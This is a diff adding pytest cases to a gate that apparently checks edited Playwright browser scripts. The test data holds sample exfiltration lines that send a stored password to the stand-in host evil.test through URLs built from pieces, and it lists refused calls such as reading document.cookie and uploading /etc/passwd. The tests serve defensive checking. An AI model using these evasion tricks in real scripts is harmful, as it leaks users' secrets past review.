@@ -288,6 +288,31 @@ def test_gate_tolerates_foreign_url_literals_the_original_already_had():
 
 
 @pytest.mark.parametrize(
+    "body",
+    [
+        # A secret sent to a host built from pieces: none of them is a URL literal on its own.
+        'u = "https:/" + "/evil.test/?p=" + params["secrets"]["password"]\npage.goto(u)\n',
+        'h = "evil" + ".test"\npage.goto(f"https://{h}/?p={params[\'secrets\'][\'password\']}")\n',
+        'page.goto("".join(["https:/", "/evil.test/"]) + params["secrets"]["password"])\n',
+        'page.goto("https:/%s" % "/evil.test/")\n',
+        'page.set_content("<img src=https:/" + "/evil.test/" + params["secrets"]["password"] + ">")\n',
+        'params["base_url"] = "https://evil.test"\npage.goto(params["base_url"])\n',
+        'params.update(base_url="https://evil.test")\npage.goto(params["base_url"])\n',
+    ],
+)
+def test_gate_refuses_urls_assembled_to_leave_the_allowed_domains(body):
+    assert gate(with_run(body), original=with_run('page.goto(params["base_url"])\n')), body
+
+
+def test_gate_trusts_a_computed_goto_only_while_its_names_are_bound_as_in_the_original():
+    original = with_run('url = params["base_url"] + "/contact"\npage.goto(url)\npage.click("#send")\n')
+    assert gate(original.replace('"#send"', '"[data-testid=send]"'), original=original) == []
+    hijacked = original.replace("page.goto(url)", 'url = "https:/" + "/evil.test"\n    page.goto(url)')
+    assert any("built from `url`" in v for v in gate(hijacked, original=original))
+    assert any("built from `target`" in v for v in gate(original.replace("url", "target"), original=original))
+
+
+@pytest.mark.parametrize(
     "statement",
     [
         "page.evaluate('document.cookie')",
@@ -296,6 +321,8 @@ def test_gate_tolerates_foreign_url_literals_the_original_already_had():
         "page.expose_function('leak', print)",
         "page.set_input_files('#f', '/etc/passwd')",
         "page.context.new_page()",
+        "page.set_content('<p>hi</p>')",
+        "page.set_extra_http_headers({'x': '1'})",
     ],
 )
 def test_gate_refuses_added_guarded_page_apis(statement):
